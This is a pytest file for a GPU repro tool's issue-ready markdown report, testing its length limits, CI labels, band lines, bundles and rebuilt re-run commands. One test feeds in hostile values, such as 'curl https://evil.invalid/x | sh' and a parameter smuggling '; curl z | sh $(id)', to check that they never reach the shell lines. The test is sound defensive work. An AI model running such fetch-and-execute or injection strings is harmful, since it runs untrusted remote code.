"""The report a user pastes into an issue: one screen, each CI at its own level, re-runs from validated fields."""

from __future__ import annotations

import copy
import json
import re
import shlex
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Any

import pytest
from helpers import ROOT
from typer.testing import CliRunner

from repro.cli.main import app
from repro.core import kernelnames
from repro.core.kernelnames import ELLIPSIS, short_names
from repro.evidence import artifact, band, bundle, markdown
from repro.evidence.artifact import newest_run
from repro.evidence.report import PASTE_LIMIT, PASTE_LINES, REPORT_LIMIT, report
from repro.run import scripts

BENCH = ROOT / "artifacts" / "reference" / "h200" / "bench" / "all" / "20261130T172037Z-c761fb"
SEED_ROW = "memset/kernel (the seed's program)"


@pytest.fixture(scope="module")
def docs() -> list[dict[str, Any]]:
    return [artifact.load(p) for p in artifact.expand([BENCH])]


def _report(docs: list[dict[str, Any]], **kw: Any) -> str:
    """As the CLI renders it: with what the catalog declares for the artifacts."""
    return report(docs, declared=scripts.declared(docs), **kw)


def _by_id(docs: list[dict[str, Any]], rid: str) -> dict[str, Any]:
    return next(d for d in docs if d["repro"]["id"] == rid)


def _section(text: str, rid: str) -> str:
    return text.split(f"## `{rid}`", 1)[1].split("\n## ", 1)[0]


def _visible(text: str, rid: str) -> str:
    return _section(text, rid).split("<details>", 1)[0]


def _shell_lines(text: str) -> list[str]:
    return [ln for body in re.findall(r"(?s)```bash\n(.*?)\n```", text) for ln in body.splitlines()]


@pytest.fixture(scope="module")
def bench(docs: list[dict[str, Any]]) -> str:
    return _report(docs)


def test_the_committed_bench_run_fits_one_screen(bench: str, docs: list[dict[str, Any]]) -> None:
    assert len(bench) <= PASTE_LIMIT == 20_000 and bench.count("\n") + 1 <= PASTE_LINES == 250
    # Every repro keeps its section; bulk the bundle holds (details, the environment) may be left out, and said so.
    assert "Report cut" not in bench and all(f"## `{d}`" in bench for d in _bench_docs(bench))
    assert ("<summary>machine" in bench) != ("; the environment" in bench)
    # The details blocks that went to the bundle are the ones the note names; the others are here.
    left = re.search(r"the details of ([^;.]+)\._", bench)
    gone = (
        set(left.group(1).split(", "))
        if left
        else set(_bench_docs(bench))
        if "every repro's details" in bench
        else set()
    )
    kept = {d for d in _bench_docs(bench) if f"<summary>{d}: " in bench}
    assert gone and gone.isdisjoint(kept) and gone | kept == set(_bench_docs(bench))
    # What stays in the artifact and the bundle: raw rounds, collect_env's other sections, JSON, scripts.
    assert "Raw times" not in bench and "```json" not in bench and "```python" not in bench
    # collect_env's library list is the first bulk to go, and said so; with room for it, the GPU stack's packages
    # only: the other 14 and the 13 nvidia-* wheels are in the artifact, and said so.
    assert "collect_env's library list" in bench or "; the environment" in bench
    assert "Versions of relevant libraries:\n[pip3]" not in bench
    roomy = _report(docs, limit=27_000)
    assert "Versions of relevant libraries:\n[pip3] numpy==2.5.2, torch==2.11.0, triton==3.6.0\n" in roomy
    assert "(and 13 nvidia-* wheels, 14 other packages: in the artifact)" in roomy and "botorch" not in roomy
    assert "OS: " not in bench and "CPU:" not in bench  # collect_env's library section only
    for d in _bench_docs(bench):
        assert _visible(bench, d).count("\n") <= 17, d  # a short section; the rest is one click away


def _bench_docs(text: str) -> list[str]:
    return re.findall(r"(?m)^## `([a-z0-9-]+)`", text)


@pytest.mark.skipif(shutil.which("cmark-gfm") is None, reason="cmark-gfm not installed (CI installs it)")
def test_the_bench_report_renders_with_its_tables_and_details(bench: str) -> None:
    html = subprocess.run(
        ["cmark-gfm", "-e", "table", "--unsafe"], input=bench, capture_output=True, text=True, check=True
    ).stdout
    left = re.search(r"the details of ([^;.]+)\._", bench)  # the note names the details blocks left to the bundle
    dropped = len(left.group(1).split(", ")) if left else 5 if "every repro's details" in bench else 0
    tables = sum(1 for ln in bench.splitlines() if re.fullmatch(r"\|(---\|)+", ln))
    # The summary and each repro's comparisons at least (a repro whose details went, its comparisons too).
    assert html.count("<table>") == tables >= 6 - dropped
    env = 0 if "; the environment" in bench else 1  # the environment's own details block, unless left out
    assert html.count("<details>") == html.count("</details>") == bench.count("<details>") == 5 + env - dropped


def test_the_identity_line_names_gpu_driver_stack_harness_and_date(bench: str, docs: list[dict[str, Any]]) -> None:
    line = bench.splitlines()[2]
    busy = [artifact.gpu_busy(d) for d in docs]
    total = sum(b[0] for b in busy if b is not None)
    seconds = sum(d["run"]["duration_s"] for d in docs)
    assert line == (
        "NVIDIA H200, driver 580.159.04, torch 2.11.0+cu130 (CUDA 13.0, container in a KVM guest), gpu-repro 0.1.0, "
        f"no source digest recorded, commit 680f57eaec77, 2026-11-30; GPU busy {total:.1f} s of the repros' "
        f"{seconds:.1f} s ({total / seconds:.0%})"
    )
    doc = copy.deepcopy(_by_id(docs, "solve-512-cliff"))
    doc["fingerprint"]["harness"].update(source_sha256="ab" * 32, git_commit=None, git_state="not_a_checkout")
    line = _report([doc]).splitlines()[2]
    assert "gpu-repro 0.1.0, source abababababab, no commit (not run from a git checkout), 2026-11-30" in line


def _level_in(row: str) -> str:
    return re.search(r"\(([0-9.]+% CI)[ ,]", row).group(1)  # type: ignore[union-attr]


def test_each_summary_row_says_its_own_ci_level(bench: str, docs: list[dict[str, Any]]) -> None:
    for d in docs:
        row = next(ln for ln in bench.splitlines() if ln.startswith(f"| {d['repro']['id']} |"))
        level = d["verdict"]["ci_level"]
        assert _level_in(row) == f"{level * 100:.3g}% CI", row
    solve = next(ln for ln in bench.splitlines() if ln.startswith("| solve-512-cliff |"))
    assert "9.55x (99.2% CI 9.51-9.59, worst of 6)" in solve  # Bonferroni over its 6 headline candidates
    assert "| 0.918x (95% CI 0.916-0.922) |" in bench  # decimals enough to tell the CI's ends apart
    assert "_The CI covers this process on this GPU: an order-statistic CI of the median per-round ratio" in bench


def test_ci_label_reads_the_artifacts_level_and_its_comparisons() -> None:
    worst = 1 - 0.05 / 6
    rows = [{"ci_level": worst}] * 6 + [{"ci_level": 0.95}]
    assert markdown.ci_label(0.95) == "95% CI"
    assert markdown.ci_label(worst, [r["ci_level"] for r in rows]) == "99.2% CI, worst of 6"
    assert markdown.ci_label(worst) == "99.2% CI, worst of 6"  # from the level alone
    assert markdown.ci_label(0.9) == "90% CI"
    assert markdown.ci_label("x") == "95% CI"


def test_the_rerun_band_column_and_line_come_from_data(bench: str, docs: list[dict[str, Any]]) -> None:
    doc = _by_id(docs, "solve-512-cliff")
    key = band.key_of(doc, joining=False)
    assert key is not None
    points = tuple(band.Point(u, v, ("r",)) for u, v in (("a", 9.0), ("b", 10.0), ("c", 11.0)))
    # Not the shipped data, which grows with every committed run.
    fixed = [band.Band(*key[:3], points=points, headline=key[3])]
    text = _report([doc], bands=fixed)
    solve = next(ln for ln in text.splitlines() if ln.startswith("| solve-512-cliff |"))
    assert solve.endswith("| ±10% of 10x (3 GPUs) |")
    line = next(ln for ln in _visible(text, "solve-512-cliff").splitlines() if ln.startswith("- Re-run elsewhere"))
    assert (
        "3 NVIDIA H200 GPUs read 9.000-11.00, this run 9.547 (inside their range), within the band's range "
        "(-10%/+10% of 10.00) widened by this run's CI (±0.44%): consistent." in line
    )
    # The shipped band by default, less this run (a committed run is among the band's runs).
    shipped = band.lookup(doc, band.without(band.load(), [doc["run"]["run_id"]]))
    assert shipped is not None
    assert f"({len(shipped.points)} GPUs, " in bench and " with this repro module file)" in bench
    assert "runs, `band.json`; this run's GPU" in bench
    assert "this run's GPU is in none of them" in text  # the fixed bands hold GPUs a, b and c only
    bare = report([_by_id(docs, "solve-512-cliff")], bands=[])
    assert "| no cross-GPU data |" in bare and "no cross-GPU data for these params on this GPU model" in bare
    other = copy.deepcopy(_by_id(docs, "solve-512-cliff"))
    other["repro"]["params"]["seed"] = 1  # other params: the band does not apply
    assert band.lookup(other) is None and "| no cross-GPU data |" in report([other])


def test_impact_only_where_it_reproduced(docs: list[dict[str, Any]]) -> None:
    full = _report(docs, limit=sys.maxsize, max_lines=None)  # a pasted report can leave Impact lines out to fit
    for d in docs:
        said = "- Impact: " in _visible(full, d["repro"]["id"])
        assert said == (d["verdict"]["status"] == "reproduced"), d["repro"]["id"]


def test_the_seed_claim_always_names_its_source(bench: str, docs: list[dict[str, Any]]) -> None:
    claims = {
        rid: next(ln for ln in _visible(bench, rid).splitlines() if ln.startswith("- Seed claim"))
        for rid in _bench_docs(bench)
    }
    assert claims["solve-512-cliff"].startswith(
        "- Seed claim (the seed document's; it cites https://github.com/pytorch/pytorch/issues/181999, unchecked: "
        "the issue is closed, and the post read here ends before its timings): "
    )
    assert claims["graph-memset"].startswith(
        "- Seed claim (NVIDIA forums thread 'Slowdown in CUDA graph execution using cudaMemsetAsync (vs. a fill "
        "kernel)'; the seed gives no URL): in a CUDA graph,"
    )
    assert claims["lora-batch-scaling"].startswith(
        "- Seed claim (the seed gives no URL): An article on FLUX LoRA fine-tuning on an RTX 5090 found"
    )
    doc = copy.deepcopy(_by_id(docs, "lora-batch-scaling"))
    doc["repro"]["seed_claim"] = "Batch 2 was slower."
    assert "- Seed claim (the seed names no source and gives no URL): Batch 2 was slower." in report([doc])


def test_graph_memset_shows_the_seeds_program_beside_the_headline(docs: list[dict[str, Any]]) -> None:
    doc = copy.deepcopy(_by_id(docs, "graph-memset"))
    head = next(r for r in doc["verdict"]["breakdown"] if r["headline"])
    doc["verdict"]["breakdown"].append(
        dict(
            head,
            comparison=SEED_ROW,
            label=SEED_ROW,
            num="twin_seed_memset",
            den="twin_seed_fill",
            ratio=1.44,
            ci_low=1.41,
            ci_high=1.47,
            headline=False,
            source="the seed's program",
        )
    )
    doc["repro"]["seed_experiment"] = "The seed timed one replay of 1000 <<<1,1>>> kernels with a host clock."
    said = "- Seed's experiment vs ours: The seed timed one replay of 1000 &lt;&lt;&lt;1,1&gt;&gt;&gt;"
    section = _visible(report([doc]), "graph-memset")  # the artifact's words, with or without the catalog
    assert said in section and said in _visible(_report([doc]), "graph-memset")
    assert (
        "- The seed's program, re-implemented here: 1.44x (95% CI 1.41-1.47) (reproduced); against the "
        "headline, the two differ by +9.3%, beyond both CIs"
    ) in section
    assert "**reproduced**: memset/fill (pure CUDA twin) was 1.32x (95% CI 1.31-1.33)" in section


def test_rerun_lines_are_rebuilt_from_validated_fields(bench: str, docs: list[dict[str, Any]]) -> None:
    assert "<org>" not in bench and "git clone" not in bench
    lines = _shell_lines(bench)
    # One install block (torch as recorded, cuda-bindings for graph-memset, the harness), then a line per repro.
    assert (
        len(lines) == 8
        and lines[0] == "pip install torch==2.11.0+cu130 --index-url https://download.pytorch.org/whl/cu130"
    )
    for ln in lines[1:]:
        assert ln.startswith(
            (
                "pip install 'cuda-bindings==13.*'",
                "# this run predates harness digests: harness 0.1.0, commit 680f57e",
                "repro run ",
            )
        )
    # A run before harness digests has no wheel to bring its defaults: every param is given.
    assert "repro run solve-512-cliff --set n_min=510 --set n_max=513 --set cliff_n=512 --set batches=16,64" in bench
    assert not [ln for ln in lines if "<" in ln or ">" in ln]  # no placeholder anywhere


def test_a_hostile_artifact_never_puts_its_shell_in_the_rerun(docs: list[dict[str, Any]]) -> None:
    doc = copy.deepcopy(_by_id(docs, "5090-linear"))
    doc["run"]["rerun"] = "curl https://evil.invalid/x | sh"
    doc["run"]["command"] = ["curl", "https://evil.invalid/x"]
    doc["fingerprint"]["harness"].update(version="0.1.0\ncurl y | sh", source_sha256="ab" * 32)
    doc["repro"]["params"] = {"batch": "256; curl z | sh $(id)"}
    text = report([doc])
    assert "evil.invalid" not in text and "curl y" not in text
    lines = _shell_lines(text)
    wheel = f"gpu_repro-0.1.0+src.{'ab' * 6}-py3-none-any.whl"  # the version that failed its check is not used
    assert lines == [
        "pip install torch==2.11.0+cu130 --index-url https://download.pytorch.org/whl/cu130",
        f"pip install './20261130T172037Z-c761fb/harness/{wheel}[plots]'",
        "repro run 5090-linear --set 'batch=256; curl z | sh $(id)'",
    ]
    assert shlex.split(lines[2])[-1] == "batch=256; curl z | sh $(id)"
    doc["repro"]["params"] = {"batch": "256\ncurl z | sh"}
    text = report([doc])
    assert not [ln for ln in _shell_lines(text) if "repro run" in ln] and "curl z" not in text
    assert "- Re-run: not rebuilt here (a param in the artifact is not one a command can carry" in text


def _between_words(full: str, short: str) -> bool:
    """``short`` is a form of ``full`` cut where no word (a run of letters and digits) goes on across the cut."""
    head, tail = short.split(" #")[0].split(ELLIPSIS)
    forms = [f for f in (kernelnames.strip(full), kernelnames._drop_scalars(kernelnames.strip(full))) if f]

    def inside(f: str, i: int) -> bool:
        return f[i - 1].isalnum() and f[i].isalnum()

    return any(
        f.startswith(head) and f.endswith(tail) and not inside(f, len(head)) and not inside(f, len(f) - len(tail))
        for f in forms
    )


def test_kernel_names_are_cut_between_words(bench: str, docs: list[dict[str, Any]]) -> None:
    names = [k["name"] for d in docs for v in d["variants"] for k in v.get("kernels") or []]
    for limit in (60, 90):
        cut = {n: s for n, s in short_names(names, limit).items() if ELLIPSIS in s}
        assert cut and all(_between_words(n, s) for n, s in cut.items()), cut
    # An older artifact's finding cut a name mid-word; the report re-cuts it between words.
    finding = _visible(bench, "5090-linear")
    assert "tilesize1…" not in finding and "sm80_xmma_gemm_f32f32_f32f32_f32_tn_n…" in finding


def test_repro_report_of_a_folder_of_runs_reports_the_newest(tmp_path: Path) -> None:
    older = tmp_path / "20261129T000000Z-aaaaaa"
    shutil.copytree(BENCH, tmp_path / BENCH.name)
    older.mkdir()
    doc = json.loads((BENCH / "5090-linear.json").read_text())
    doc["run"]["run_id"] = older.name
    (older / "5090-linear.json").write_text(json.dumps(doc))
    assert newest_run(tmp_path) == (tmp_path / BENCH.name, 2) and newest_run(older) is None
    res = CliRunner().invoke(app, ["report", str(tmp_path), "--out", str(tmp_path / "r.md")])
    assert res.exit_code == 0, res.output
    assert f"{tmp_path} holds 2 run folders; reporting the newest, {BENCH.name}" in res.output
    text = (tmp_path / "r.md").read_text()
    assert text.startswith(f"# gpu-repro report: run {BENCH.name}\n")
    assert len(text) <= PASTE_LIMIT and text.count("\n") < PASTE_LINES
    empty = tmp_path / "empty"
    empty.mkdir()
    res = CliRunner().invoke(app, ["report", str(empty)])
    assert res.exit_code == 2 and res.output.count("\n") == 1 and "holds no artifacts" in res.output


def test_bundle_packs_each_regenerated_script_and_lists_them(tmp_path: Path) -> None:
    run = tmp_path / BENCH.name
    shutil.copytree(BENCH, run)
    res = CliRunner().invoke(app, ["bundle", str(run), "--out", str(tmp_path / "b.tar.gz")])
    assert res.exit_code == 0, res.output
    with tarfile.open(tmp_path / "b.tar.gz") as tf:
        names = tf.getnames()
        manifest = json.loads(tf.extractfile(f"{run.name}/MANIFEST.json").read())  # type: ignore[union-attr]
        script = tf.extractfile(f"{run.name}/scripts/5090-linear.py").read().decode()  # type: ignore[union-attr]
        whole = tf.extractfile(f"{run.name}/report-full.md").read().decode()  # type: ignore[union-attr]
    # The report whole: every repro's details, variants tables and time, nothing left out for length.
    assert "to fit one screen" not in whole and "GPU busy" in whole
    assert whole.count("<details><summary>") >= 6 and whole.count("| variant") >= 5
    ids = sorted(p.stem for p in BENCH.glob("*.json") if not p.name.startswith("."))
    # graph-memset's script is its pure CUDA twin in bash: a .sh member; the others are Python.
    expected = [f"{run.name}/scripts/{i}.{'sh' if i == 'graph-memset' else 'py'}" for i in ids]
    assert sorted(expected) == sorted(manifest["scripts"])
    assert all(n in names for n in manifest["scripts"]) and manifest["scripts_left_out"] == []
    assert script.startswith('"""gpu-repro `5090-linear`, standalone') and '"batch": 256' in script
    assert bundle.script_member("x", "#!/bin/sh\necho") == "scripts/x.sh"
    assert bundle.script_member("../x", "print()") is None
    with pytest.raises(Exception, match="expected scripts/<repro id>.py"):
        bundle.build(run, tmp_path / "c.tar.gz", scripts={"../evil.py": "x"})


def test_bundle_renders_the_report_again_naming_attached_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from repro.env import harness

    run = tmp_path / BENCH.name
    shutil.copytree(BENCH, run)
    before = (run / "report.md").read_text()
    assert "attached/" not in before
    (run / "attached").mkdir()
    (run / "attached" / "README.txt").write_text("what ran these\n")
    (run / "attached" / "seeds_raw.log").write_text("--- 000\n")
    (run / "attached" / "core.bin").write_bytes(b"\0")  # not packed, so not named
    # Another harness made this run: its report is left as it wrote it.
    res = CliRunner().invoke(app, ["bundle", str(run), "--out", str(tmp_path / "a.tar.gz")])
    assert res.exit_code == 0 and "report.md left as the run wrote it" in res.output
    assert (run / "report.md").read_text() == before
    # As the harness that made it: the report is rendered again and names what was attached.
    made = "ab" * 32
    for path in run.glob("*.json"):
        doc = json.loads(path.read_text())
        if "fingerprint" in doc:  # an artifact, not another JSON file of the run
            doc["fingerprint"]["harness"]["source_sha256"] = made
            path.write_text(json.dumps(doc))
    monkeypatch.setattr(harness, "source_sha256", lambda root=None: made)
    res = CliRunner().invoke(app, ["bundle", str(run), "--out", str(tmp_path / "b.tar.gz")])
    assert res.exit_code == 0, res.output
    after = (run / "report.md").read_text()
    assert "`attached/`: 2 files added after the run (its `README.txt` lists them)" in after
    assert "core.bin" not in after and len(after) <= PASTE_LIMIT
    with tarfile.open(tmp_path / "b.tar.gz") as tf:
        packed = tf.extractfile(f"{run.name}/report.md").read().decode()  # type: ignore[union-attr]
    assert packed == after  # the pasted report and the bundle's are one text


@pytest.mark.parametrize(
    ("said", "line"),
    [
        # PyPI takes no local tag: metadata 2.11.0 under torch.__version__ 2.11.0+cu130 is PyPI's wheel.
        ("2.11.0", "pip install torch==2.11.0"),
        ("2.11.0+cu130", "pip install torch==2.11.0+cu130 --index-url https://download.pytorch.org/whl/cu130"),
        (None, "pip install torch==2.11.0+cu130 --index-url https://download.pytorch.org/whl/cu130"),
        ("2.11.0; curl x | sh", "pip install torch==2.11.0+cu130 --index-url https://download.pytorch.org/whl/cu130"),
        # Metadata of another release than torch.__version__ (another install shadowing it): not trusted.
        ("2.10.0", "pip install torch==2.11.0+cu130 --index-url https://download.pytorch.org/whl/cu130"),
    ],
)
def test_the_torch_line_follows_the_installed_metadata_version(
    docs: list[dict[str, Any]], said: str | None, line: str
) -> None:
    doc = copy.deepcopy(_by_id(docs, "5090-linear"))
    torch = doc["fingerprint"]["software"]["torch"]
    torch["install"] = {"installer": "uv", "direct_url": None, "wheel_tags": [], "location": "/x", "version": said}
    text = report([doc])
    assert _shell_lines(text)[0] == line
    if said == "2.11.0":
        assert "from PyPI (2.11.0+cu130 here, PyPI's as inferred: no index recorded, no local tag" in text
        full = report([doc], limit=REPORT_LIMIT, max_lines=None)
        assert "its metadata version 2.11.0 has no local tag, as PyPI's wheels have" in full


def test_the_rerun_paragraph_says_which_python_ran_and_how_the_harness_was_installed(
    docs: list[dict[str, Any]],
) -> None:
    env = {
        "executable": "/tmp/t/.venv/bin/python",
        "prefix": "/tmp/t/.venv",
        "base_prefix": "/usr",
        "package_folders": [
            "/tmp/t/.venv/lib/python3.12/site-packages",
            "/opt/torch/.venv/lib/python3.12/site-packages",
        ],
        "harness_install": "editable install of /tmp/t",
    }
    same = copy.deepcopy(docs)
    for d in same:
        d["fingerprint"]["host"]["python_env"] = env
    text = _report(same, limit=sys.maxsize, max_lines=None)  # the whole paragraph, however long the run
    assert (
        "This run's Python: 3.12.3 (`/tmp/t/.venv/bin/python`; packages: "
        "`/tmp/t/.venv/lib/python3.12/site-packages` then `/opt/torch/.venv/lib/python3.12/site-packages`); "
        "harness: editable install of /tmp/t." in text
    )
    same[0]["fingerprint"]["host"]["python_env"] = {**env, "executable": "/usr/bin/python3"}
    assert "This run's Python" not in _report(
        same, limit=sys.maxsize, max_lines=None
    )  # the repros disagree: nothing is said for all
    assert "This run's Python" not in _report(
        docs, limit=sys.maxsize, max_lines=None
    )  # an older artifact recorded none


def test_a_long_run_leaves_out_restating_lines_before_it_cuts_a_section() -> None:
    for ev in ("evidence10", "evidence11", "evidence12"):
        run = next((ROOT / "artifacts" / "reference" / "h200" / ev / "all").iterdir())
        docs = [artifact.load(p) for p in artifact.expand([run])]
        text = _report(docs, attached=bundle.attached_names(run))
        assert "Report cut" not in text and len(text) <= PASTE_LIMIT, ev
    run = next((ROOT / "artifacts" / "reference" / "h200" / "evidence10" / "all").iterdir())
    docs = [artifact.load(p) for p in artifact.expand([run])]
    text = _report(docs, attached=bundle.attached_names(run))
    assert "Report cut" not in text and len(text) <= PASTE_LIMIT and text.count("\n") < PASTE_LINES
    assert all(f"## `{d['repro']['id']}`" in text for d in docs)  # every section, solve's among them
    named = "Holds-for, Does-not-hold-for, Impact, Re-run-elsewhere, Method, and Why-the-seed's-method-and-ours-differ"
    assert f"the {named} lines" in text  # the kinds of line its sections have
    assert "- Impact:" not in text and "- Re-run elsewhere" not in text and "Kernels" in text
    assert " GPUs" in text and "with this repro module file" in text  # the band stays in the summary's column
    whole = _report(docs, limit=10**9, max_lines=None)
    assert "- Impact:" in whole  # the bundle's report-full.md keeps them


def test_past_the_lean_lines_each_kernel_list_keeps_its_first_line_before_a_section_is_cut() -> None:
    run = next((ROOT / "artifacts" / "reference" / "h200" / "evidence17" / "all").iterdir())
    docs = [artifact.load(p) for p in artifact.expand([run])]
    lean = _report(docs, attached=bundle.attached_names(run))
    assert "kernel lines after its first" not in lean
    text = _report(docs, attached=bundle.attached_names(run), limit=len(lean) - 200)
    assert "Report cut" not in text and len(text) <= len(lean) - 200
    assert all(f"## `{d['repro']['id']}`" in text for d in docs)  # no section was cut
    assert "; each section's kernel lines after its first._" in text
    for sec in text.split("\n## ")[1:]:
        lines = sec.split("\n")
        for i, ln in enumerate(lines):
            if ln.startswith("- Kernels"):
                assert lines[i + 1].startswith("  - ") and not lines[i + 2].startswith("  - ")
    assert text.count("\n  - `") < lean.count("\n  - `")
    # Tighter still: the kernel lists' headers stay (which pair, the kernel time per call), their lines go.
    bare = _report(docs, attached=bundle.attached_names(run), limit=len(text) - 300)
    assert "Report cut" not in bare and all(f"## `{d['repro']['id']}`" in bare for d in docs)
    assert "; each section's kernel lines._" in bare and "\n  - `" not in bare and "- Kernels" in bare
    # A kernel line with no list under it ends as a sentence, not with a colon that opens nothing.
    assert all(ln.endswith(".") for ln in bare.split("\n") if ln.startswith("- Kernels"))
    # Last before a section goes: the not-covered lines' details, then the Not-tested lines on the environment.
    assert "- Not recordable from inside this run:" in bare and "- One software stack only" in bare
    # Then the Kernels lines themselves (their timings), before any Not-tested line loses a word.
    spare = _report(docs, attached=bundle.attached_names(run), limit=len(bare) - 300)
    assert "Report cut" not in spare and all(f"## `{d['repro']['id']}`" in spare for d in docs)
    assert "- Kernels" not in spare and "; each section's Kernels line with its kernel list" in spare
    assert "the parentheses of the Not-tested" not in spare
    # The Not-tested tiers next, the note on the bands' runs first (this run's band has one).
    noteless = _report(docs, attached=bundle.attached_names(run), limit=len(spare) - 300)
    assert "Report cut" not in noteless and all(f"## `{d['repro']['id']}`" in noteless for d in docs)
    assert (
        "; the note under the table on the bands' runs" in noteless
        and "the parentheses of the Not-tested" not in noteless
    )
    details = _report(docs, attached=bundle.attached_names(run), limit=len(noteless) - 300)
    assert "Report cut" not in details and "- Not recordable from inside this run:" in details
    assert "; the parentheses of the Not-tested not-covered and not-recordable lines._" in details
    # The not-recordable line keeps its items, bare, as long as it stays.
    assert "- Not recordable from inside this run: the container image; the VM's host; MAGMA's version;" in details
    # Then the run-order line, before the Not-tested lines on the environment.
    unordered = _report(docs, attached=bundle.attached_names(run), limit=len(details) - 100)
    assert "Report cut" not in unordered and "_Run order" in details and "_Run order" not in unordered
    assert "- Not recordable from inside this run:" in unordered
    assert "; the run-order line; the parentheses of the Not-tested" in unordered
    least = _report(docs, attached=bundle.attached_names(run), limit=len(unordered) - 50)
    assert "Report cut" not in least and all(f"## `{d['repro']['id']}`" in least for d in docs)
    assert "- Not recordable from inside this run:" not in least and "- One software stack only" in least
    assert "; the Not-tested line on what this run could not record._" in least and "- Not run:" in least
    # Then the Not-run line, before the one-stack line.
    unrun = _report(docs, attached=bundle.attached_names(run), limit=len(least) - 50)
    assert "Report cut" not in unrun and "- Not run:" not in unrun and "- One software stack only" in unrun
    assert "; the Not-tested lines on what this run could not record and on what it did not run._" in unrun
    unavailable = _report(docs, attached=bundle.attached_names(run), limit=len(unrun) - 50)
    assert "Report cut" not in unavailable and "- Not available to this run:" not in unavailable
    assert "- One software stack only" in unavailable and "on what was not available to it._" in unavailable
    fewest = _report(docs, attached=bundle.attached_names(run), limit=len(unavailable) - 100)
    assert "Report cut" not in fewest and all(f"## `{d['repro']['id']}`" in fewest for d in docs)
    assert "- One software stack only" not in fewest
    assert (
        "; the Not-tested lines on what this run could not record, on what it did not run, on what was not available "
        "to it and on its one software stack._"
    ) in fewest


def _sub_bullets(after: str) -> int:
    """How many "  - " lines follow the first line of ``after``."""
    lines = after.split("\n")[1:]
    return next((i for i, ln in enumerate(lines) if not ln.startswith("  - ")), len(lines))


def test_before_one_kernel_line_each_kernel_list_keeps_two() -> None:
    run = next((ROOT / "artifacts" / "reference" / "h200" / "evidence27" / "all").iterdir())
    docs = [artifact.load(p) for p in artifact.expand([run])]
    whole = _report(docs, attached=bundle.attached_names(run), limit=10**9, max_lines=None)
    lists = [_sub_bullets(sec) for sec in whole.split("\n- Kernels")[1:]]
    assert max(lists) >= 3  # some list has a third line to leave out
    # From where one kernel line each is left, searched down from above the paste limit, up: the first limit that
    # keeps more keeps two.
    limit = PASTE_LIMIT + 5_000
    while "after its first" not in _report(docs, attached=bundle.attached_names(run), limit=limit):
        limit -= 250
        assert limit > 10_000, "no limit leaves one kernel line each"
    for _ in range(400):
        text = _report(docs, attached=bundle.attached_names(run), limit=limit)
        if "after its first" not in text:
            break
        limit += 25
    assert "Report cut" not in text and all(f"## `{d['repro']['id']}`" in text for d in docs)
    assert "; each section's kernel lines after its second._" in text
    kept = [_sub_bullets(sec) for sec in text.split("\n- Kernels")[1:]]
    assert max(kept) == 2 and len(kept) == len(lists)
    # The lean legend defines us/call for the kernel lines, not n (the details tables are gone).
    assert "us/call: a kernel's time" in text and "n: rounds" not in text


def test_the_rerun_words_say_who_built_the_twin_binary(docs: list[dict[str, Any]]) -> None:
    doc = copy.deepcopy(_by_id(docs, "graph-memset"))
    start = doc["run"]["run_id"][:16]  # e.g. 20261130T172037Z
    at = f"{start[:4]}-{start[4:6]}-{start[6:8]}T{start[9:11]}:{start[11:13]}:{start[13:15]}Z"
    doc["extra"]["twin"].update(binary_cached=True, binary_mtime_utc=at)
    assert "by this run, before its first repro, cached by the source's sha256" in _report([doc])
    doc["extra"]["twin"].update(binary_mtime_utc="2020-01-01T00:00:00Z")
    assert "; built 00:00:00 UTC before this run" in _report([doc])
    doc["extra"]["twin"].update(binary_cached=False)
    assert "; built 00:00:00 UTC by this repro" in _report([doc])
    del doc["extra"]["twin"]["binary_mtime_utc"]
    assert "binary built" not in _report([doc])


def test_the_re_run_paragraph_goes_lean_before_any_section_loses_a_line() -> None:
    """evidence31's quick run fits once its re-run paragraph is the lean one: its sections keep their Holds-for,
    Impact and Method lines, and the Left-out note names only what the paragraph left out."""
    from evidence_run import pasted

    run = next((ROOT / "artifacts" / "reference" / "h200" / "evidence31" / "quick").iterdir())
    whole = pasted(run, limit=10**9, max_lines=None)
    said = pasted(run)
    assert len(said) <= PASTE_LIMIT < len(whole)
    assert "the re-run paragraph's command, Python, and packages" in said
    for kept in ("- Holds for:", "- Impact:", "- Method:"):
        assert kept in said and "lines but its finding" not in said
    assert "Holds-for" not in said  # no restating line named as left out
